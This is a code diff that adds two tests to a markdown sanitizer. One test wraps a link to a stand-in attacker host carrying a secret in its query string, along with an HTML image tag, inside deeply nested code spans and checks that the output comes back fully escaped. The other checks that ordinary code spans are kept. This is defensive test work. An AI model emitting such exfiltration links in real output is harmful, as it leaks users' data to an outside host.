@@ -321,6 +321,28 @@ describe("properties", () => {
     expect(liveProblems(out)).toEqual([]);
   });
 
+  // Each code span over several lines is not kept: its content is read again as text, and so are the
+  // spans nested in it, each read of the rest of the text (130 deep over 18,000 characters: 1.9 s).
+  // Too costly to parse (one parse would not do), the text is escaped whole: its quote markers too.
+  it("escapes whole code spans nested deep over several lines, instead of reading each again", () => {
+    const depth = 130;
+    const opening = Array.from({ length: depth }, (_, i) => `> a ${"`".repeat(depth - i)}`);
+    const closing = Array.from({ length: depth }, (_, i) => `> ${"`".repeat(i + 1)} b`);
+    const text = [...opening, "> [x](https://evil.example/?q=SECRET) <img src=x>", ...closing].join("\n");
+    expect(text.length).toBeLessThan(MAX_INPUT);
+    const out = sanitize(text);
+    expect(out.split("\n").every((line) => line.startsWith("\\>"))).toBe(true);
+    expect(liveProblems(out)).toEqual([]);
+  });
+
+  it("keeps the code spans of a long ordinary report", () => {
+    const paragraph =
+      "Ran `npm test` and ``a ` b`` then ```x `` y``` in `src/a.ts` for [PR](https://github.com/o/r/pull/1). ";
+    const report = Array.from({ length: 30 }, () => paragraph.repeat(6)).join("\n\n");
+    expect(report.length).toBeGreaterThan(MAX_INPUT * 0.9);
+    expect(sanitize(report)).toBe(report);
+  });
+
   // Its speed is a benchmark (bench/text.bench.ts). Here: the work is bounded by the clip (text past
   // MAX_INPUT changes nothing, so no input is worked on whole), the output by its stated size, and
   // nothing of the worst input known is left live.
